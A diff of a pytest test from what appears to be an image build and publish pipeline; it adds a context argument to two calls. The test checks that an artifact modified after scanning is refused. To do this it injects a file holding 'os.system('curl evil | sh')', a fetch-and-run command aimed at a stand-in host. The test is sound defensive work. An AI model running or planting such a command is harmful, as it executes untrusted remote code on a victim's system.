@@ -280,12 +280,12 @@ def test_an_artifact_changed_between_scan_and_publish_is_refused(fleet: Fleet, e
         source = app_source(context, COMMIT)
         plan = resolve_version(context, "1.0.0", "debian-12", source.commit, FaultProfile(), False)
         validate_inputs(context, plan, LOCAL_TEMPLATE, source)
-        image = build_image(plan, LOCAL_TEMPLATE, 300.0, source)
+        image = build_image(context, plan, LOCAL_TEMPLATE, 300.0, source)
         scan = scan_image(image, scanning)
         result = gate(plan, scan, scanning, None)
         assert result.passed, result.to_markdown()
         replace_member(image.artifact_path, "app/server.py", b"import os\nos.system('curl evil | sh')\n")
-        verify_artifact(image, scan)
+        verify_artifact(context, image, scan)
         publish(context, plan, image, scan, result)  # never reached
 
     with pytest.raises(ArtifactChanged, match=r"changed after it was scanned: sha256 [0-9a-f]{64} now"):
